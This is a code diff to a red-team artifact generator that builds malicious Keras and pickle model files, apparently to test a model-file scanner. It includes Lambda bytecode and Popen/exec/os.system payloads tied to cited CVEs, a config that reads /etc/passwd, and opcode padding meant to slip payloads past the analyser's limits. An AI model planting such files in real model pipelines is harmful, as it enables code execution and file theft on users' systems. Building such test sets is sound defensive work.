@@ -15,7 +15,9 @@ import modules or load another pickle, called directly or through allowlisted he
 Container formats beyond the standard library (the nullifAI technique's 7z archives, LZ4 frames as joblib
 writes them, Zstandard) come from the `7z` tool and the lz4 and zstandard modules.
 
-Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard)
+The Keras files (legacy .h5 models, .keras archives) are written with h5py by keras_files.py.
+
+Run: /usr/bin/python3 scripts/artifacts/gen-redteam.py   (Debian: p7zip-full python3-lz4 python3-zstandard python3-h5py)
 """
 import bz2
 import gzip
@@ -459,6 +461,7 @@ def build():
     attack("nemo-xz.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:xz"), "NeMo tar.xz with a checkpoint")
 
     round_2026(evil)
+    round_s20()
 
 
 def joblib_array_header(dtype, shape):
@@ -613,6 +616,46 @@ def round_2026(evil):
     attack("r26-torch-legacy-tar-pax.tar", pax.getvalue(), f"{src}: legacy torch tar with PAX headers")
     attack("r26-nemo-bz2.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:bz2"), f"{src}: NeMo tar.bz2 with a checkpoint")
     attack("r26-npz-zip64.npz", (lambda b: (b, b.getvalue())[1])(_npz64(npy_object(evil))), f"{src}: npz member with zip64 extra fields")
+
+
+def round_s20():
+    """Session 20: Keras model configurations (which no pickle reader sees) and payloads past the analyser's limits."""
+    import keras_files as k  # h5py: only this round needs it
+    src = "s20"
+    code2 = [k.lambda_bytecode(), None, None]
+    attack("s20-keras2-lambda.h5", k.h5_model(k.sequential2([k.dense2("dense", 4), k.lambda2(code2)])),
+           f"{src}: legacy .h5 with a Lambda layer's marshalled bytecode (CVE-2024-3660, CVE-2025-9905; modelscan H5LambdaDetectScan)")
+    attack("s20-keras2-lambda-string.h5", k.h5_model(k.sequential2([k.lambda2(k.lambda_bytecode())])),
+           f"{src}: Lambda bytecode as one base64 string (older Keras 2)")
+    attack("s20-keras2-lambda-vlen-userblock.h5", k.h5_model(k.sequential2([k.lambda2(code2)]), variable_length=True, userblock=512),
+           f"{src}: model_config as a variable-length string (global heap), superblock after a 512-byte user block")
+    attack("s20-keras2-lambda-function-os.h5", k.h5_model(k.sequential2([k.lambda2("system", "function", "os")])),
+           f"{src}: Lambda naming os.system by module and function (Keras 2 looks it up in sys.modules)")
+    attack("s20-keras3-lambda.keras", k.keras_archive(k.sequential3([k.dense3("dense", 4), k.lambda3(k.lambda3_bytecode())])),
+           f"{src}: .keras config.json with a __lambda__ function (runs with safe_mode=False)")
+    attack("s20-keras3-module-popen.keras", k.keras_archive(k.sequential3([k.keras_object("subprocess", "Popen", {"args": ["sh", "-c", CMD]})])),
+           f"{src}: config.json naming subprocess.Popen as a layer class (CVE-2025-1550, GHSA-48g7-3x6r-xfhp)")
+    attack("s20-keras3-function-exec.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("builtins", "exec"))])),
+           f"{src}: a Lambda whose function is builtins.exec by reference (CVE-2025-1550)")
+    attack("s20-keras3-unsafe-toggle.keras", k.keras_archive(k.sequential3([k.function_reference("keras.config", "enable_unsafe_deserialization"),
+                                                                             k.lambda3(k.lambda3_bytecode())])),
+           f"{src}: keras.config.enable_unsafe_deserialization before a Lambda (CVE-2025-9906)")
+    attack("s20-keras3-get-file.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("keras.utils", "get_file"))])),
+           f"{src}: keras.utils.get_file as a gadget inside Keras' own namespace (CVE-2025-8747)")
+    attack("s20-keras3-vocabulary-file.keras", k.keras_archive(k.sequential3([k.keras_object("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"})])),
+           f"{src}: StringLookup reading its vocabulary from a path the config chooses (CVE-2025-12058)")
+    attack("s20-keras3-lambda-renamed.bin", k.keras_archive(k.sequential3([k.lambda3(k.lambda3_bytecode())])),
+           f"{src}: a .keras archive under another name (load_model sniffs the zip)")
+    unlisted = ("_aix_support", "_read_cmd_output")
+    tail = P(2).call(*unlisted, CMD).stop().bytes()[2:]
+    attack("s20-none-pop-past-opcode-limit.pkl.gz", gzip.compress(b"\x80\x02" + b"N0" * 2_600_000 + tail, 9, mtime=0),
+           f"{src}: 5.2 million NONE/POP opcodes, past the analyser's opcode limit, before the payload (gzip keeps the file small)")
+    attack("s20-pushes-past-stack-limit.pkl", b"\x80\x02" + b"N" * 100_001 + tail, f"{src}: 100 001 pushes, past the analyser's stack limit, before the payload")
+    names = P(4).s("posix").raw(b"\x94").s("system").raw(b"\x94").raw(b"00").bytes()
+    attack("s20-memoized-names-past-limit.pkl.gz", gzip.compress(names + b"N0" * 2_600_000 + b"h\x00h\x01\x93(\x8c\x02idtR.", 9, mtime=0),
+           f"{src}: module and name memoized before the opcode limit, STACK_GLOBAL of their BINGETs after it")
+    attack("s20-protocol0-past-opcode-limit.p0.pkl.gz", gzip.compress(b"I1\n0" * 2_600_000 + b"cposix\nsystem\n(S'id'\ntR.", 9, mtime=0),
+           f"{src}: protocol 0 (no PROTO header) padded past the opcode limit")
 
 
 def _npz64(member):
